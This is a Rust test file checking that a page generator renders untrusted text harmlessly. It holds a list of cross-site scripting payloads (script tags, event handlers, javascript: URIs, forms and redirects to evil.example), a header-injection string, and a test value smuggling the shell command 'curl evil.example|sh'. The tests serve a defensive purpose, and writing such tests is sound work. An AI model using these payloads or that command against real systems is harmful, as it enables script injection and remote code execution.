//! What others write is text on every page: never an element, an attribute, or an address of another kind.

use std::collections::BTreeSet;

use crate::parsed::Page;
use crate::story::pages_full_of;

/// Each begins where a text, an attribute, a script, a style, an address or a comment would end.
const CORPUS: &[&str] = &[
    "<script>alert(1)</script>MARK",
    "\"><img src=x onerror=alert(1)>MARK",
    "' onmouseover='alert(1)' x='MARK",
    "\" autofocus onfocus=alert(1) x=\"MARK",
    "</title><script>alert(1)</script>MARK",
    "</textarea><script>alert(1)</script>MARK",
    "</style><script>alert(1)</script>MARK",
    "<svg/onload=alert(1)>MARK",
    "<svg><animate href=#x attributeName=href values=javascript:alert(1)>MARK",
    "<a href=javascript:alert(1)>MARK</a>",
    "javascript:alert(1)//MARK",
    "JaVaScRiPt:alert(1)//MARK",
    "\u{1}javascript:alert(1)//MARK",
    "data:text/html,<script>alert(1)</script>MARK",
    "vbscript:msgbox(1)MARK",
    "//evil.example/MARK",
    "https:evil.example/MARK",
    "<!--<script>alert(1)</script>MARK",
    "--><script>alert(1)</script>MARK",
    "<![CDATA[<script>alert(1)</script>]]>MARK",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>MARK",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">MARK",
    "<iframe srcdoc='<script>alert(1)</script>'>MARK",
    "<form action=https://evil.example><input name=token>MARK",
    "<base href=https://evil.example/>MARK",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>MARK",
    "<link rel=stylesheet href=https://evil.example>MARK",
    "&lt;script&gt;alert(1)&lt;/script&gt;MARK",
    "&#60;script&#62;alert(1)&#60;/script&#62;MARK",
    "{{constructor.constructor('alert(1)')()}}MARK",
    "<b>MARK</b>\r\nSet-Cookie: x=y",
    "\u{202e}<img src=x onerror=alert(1)>MARK",
    "<img src=x onerror=alert(1)//\nMARK",
    "<xss id=x tabindex=1 onfocus=alert(1)>MARK</xss>",
    "<input type=image src=x formaction=javascript:alert(1)>MARK",
];

fn names(page: &Page) -> (BTreeSet<String>, BTreeSet<String>) {
    let elements = page.elements.iter();
    let attributes = elements.clone().flat_map(|one| &one.attributes);
    (
        elements.map(|one| one.name.clone()).collect(),
        attributes.map(|(name, _)| name.clone()).collect(),
    )
}

#[test]
fn nothing_that_others_write_is_an_element_an_attribute_or_a_foreign_address() {
    let harmless: Vec<_> = pages_full_of("MARK harmless")
        .iter()
        .map(|(_, html)| names(&Page::of(html)))
        .collect();
    for text in CORPUS {
        let pages = pages_full_of(text);
        for ((name, html), (elements, attributes)) in pages.iter().zip(&harmless) {
            let page = Page::of(html);
            let (found_elements, found_attributes) = names(&page);
            let new: Vec<_> = found_elements.difference(elements).collect();
            assert!(new.is_empty(), "{name}: {new:?} of {text:?}");
            let new: Vec<_> = found_attributes.difference(attributes).collect();
            assert!(new.is_empty(), "{name}: {new:?} of {text:?}");
            assert_eq!(page.comments, 0, "{name}: {text:?}");
            assert!(page.text.contains("MARK"), "{name} does not show {text:?}");
            check_addresses(name, text, &page);
        }
    }
}

fn check_addresses(name: &str, text: &str, page: &Page) {
    let scripts: Vec<_> = page.all("script").collect();
    assert_eq!(scripts.len(), 1, "{name}: {text:?}");
    assert_eq!(scripts[0].text, "", "{name}: {text:?}");
    for element in &page.elements {
        for (attribute, value) in &element.attributes {
            assert!(
                !attribute.starts_with("on") && attribute != "style",
                "{name}: {attribute} of {text:?}"
            );
            if !["href", "src", "action", "formaction"].contains(&attribute.as_str()) {
                continue;
            }
            let is_ours = value.starts_with('#')
                || value.starts_with('?')
                || (value.starts_with('/') && !value.starts_with("//"));
            let is_of_the_web = value.starts_with("https://") || value.starts_with("http://");
            assert!(
                is_ours || (is_of_the_web && element.name == "a"),
                "{name}: {attribute}={value} of {text:?}"
            );
        }
    }
    assert_eq!(page.all("base").count(), 0);
}

#[test]
fn an_address_of_the_web_is_a_link_that_tells_nobody_where_it_was_followed() {
    let pages = pages_full_of("https://alerts.example/1?a=b");
    let page = Page::of(&pages[2].1);
    let link = page
        .all("a")
        .find(|one| one.attribute("href") == Some("https://alerts.example/1?a=b"))
        .unwrap();
    assert_eq!(link.attribute("rel"), Some("noopener noreferrer nofollow"));
}

#[test]
fn a_name_that_would_run_in_a_shell_is_in_no_command() {
    let pages = pages_full_of("x;curl evil.example|sh");
    let page = Page::of(&pages[2].1);
    assert!(page.by_id("command").is_none());
    assert!(page.text.contains("no command is shown to copy"));
}
